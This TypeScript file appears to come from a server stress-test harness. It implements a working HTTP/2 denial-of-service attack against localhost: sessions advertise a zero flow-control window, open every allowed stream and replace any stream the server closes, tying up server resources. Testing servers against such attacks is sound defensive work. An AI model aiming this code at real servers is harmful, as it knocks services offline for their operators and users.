// A process that opens HTTP/2 sessions with a window of zero and requests one path on every stream
// that it may have, so that no answer with a body can be sent. A stream that the server ends is
// replaced. Arguments: port, sessions, streams of a session at once, requests of a session in all,
// path.
import { connect, type Socket } from "node:net";
import { headersFrame } from "../h2-frames.ts";
import { countStatus, noLoad, reportRegularly } from "./report.ts";

const [port, sessions, streams, requests, path = ""] = process.argv.slice(2);
const load = noLoad();
const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "latin1");
// SETTINGS with INITIAL_WINDOW_SIZE (4) = 0.
const settings = Buffer.from([0, 0, 6, 4, 0, 0, 0, 0, 0, 0, 4, 0, 0, 0, 0]);
const settingsAck = Buffer.from([0, 0, 0, 4, 1, 0, 0, 0, 0]);
const fields = [":method GET", ":scheme http", ":authority a", `:path ${path}`];
const headers = fields.map((field) => field.split(" ") as [string, string]);

for (let at = 0; at < Number(sessions); at += 1) attack();
reportRegularly(load);

function attack(): void {
  const socket = connect({ host: "127.0.0.1", port: Number(port) });
  let opened = 0;
  const open = () => {
    if (opened === Number(requests)) return;
    const frame = headersFrame(2 * opened + 1, headers);
    opened += 1;
    load.requests += 1;
    load.bytesSent += frame.length;
    socket.write(frame);
  };
  socket.on("connect", () => {
    load.connections += 1;
    socket.write(Buffer.concat([preface, settings]));
    for (let at = 0; at < Number(streams); at += 1) open();
  });
  onFrames(socket, ({ type, flags }) => {
    if (type === 4 && (flags & 1) === 0) socket.write(settingsAck);
    if (type === 1) countStatus(load, "begun");
    const isEnd = type === 3 || (type <= 1 && (flags & 1) === 1);
    if (!isEnd) return;
    load.statuses.ended = (load.statuses.ended ?? 0) + 1;
    open();
  });
  socket.on("error", () => undefined);
  socket.on("close", () => {
    load.closed += 1;
  });
}

function onFrames(socket: Socket, take: (frame: { type: number; flags: number }) => void): void {
  let waiting: Buffer = Buffer.alloc(0);
  socket.on("data", (bytes: Buffer) => {
    waiting = Buffer.concat([waiting, bytes]);
    for (;;) {
      const length = waiting.length < 9 ? Number.POSITIVE_INFINITY : 9 + waiting.readUIntBE(0, 3);
      if (waiting.length < length) return;
      take({ type: waiting[3] ?? 0, flags: waiting[4] ?? 0 });
      waiting = waiting.subarray(length);
    }
  });
}
